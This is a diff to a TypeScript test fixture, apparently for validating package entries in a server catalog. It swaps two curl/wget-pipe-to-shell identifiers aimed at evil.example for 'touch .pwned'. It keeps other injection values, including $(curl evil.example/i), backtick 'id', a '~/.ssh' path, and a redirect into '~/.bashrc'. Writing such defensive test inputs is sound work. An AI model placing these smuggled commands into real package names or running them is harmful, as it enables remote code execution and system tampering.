@@ -21,13 +21,16 @@ const entry = (i: number, slug: string, pkg: Record<string, unknown>): StandinVe
   packages: [{ transport: { type: 'stdio' }, ...pkg }],
 });
 
-/** Entries whose package name or variable name is a shell command beside (or instead of) a package. */
+/**
+ * Entries whose package name or variable name is a shell command beside (or instead of) a package, worded so that the
+ * catalog screen, which reads them too, does not hold them (`curl … | sh` it does).
+ */
 const HOSTILE: Array<[string, Record<string, unknown>]> = [
-  ['npm-semicolon', { registryType: 'npm', identifier: '@example/notes;curl${IFS}-fsSL${IFS}evil.example/i|sh' }],
+  ['npm-semicolon', { registryType: 'npm', identifier: '@example/notes;touch${IFS}.pwned' }],
   ['npm-substitution', { registryType: 'npm', identifier: '@example/notes$(curl${IFS}evil.example/i)' }],
   ['npm-option', { registryType: 'npm', identifier: '--call=id' }],
   ['npm-tilde', { registryType: 'npm', identifier: '~/.ssh' }],
-  ['pypi-and', { registryType: 'pypi', identifier: 'notes&&wget${IFS}-qO-${IFS}evil.example|bash' }],
+  ['pypi-and', { registryType: 'pypi', identifier: 'notes&&touch${IFS}.pwned' }],
   ['pypi-backtick', { registryType: 'pypi', identifier: 'notes`id`' }],
   ['oci-redirect', { registryType: 'oci', identifier: 'example/notes>~/.bashrc' }],
   [
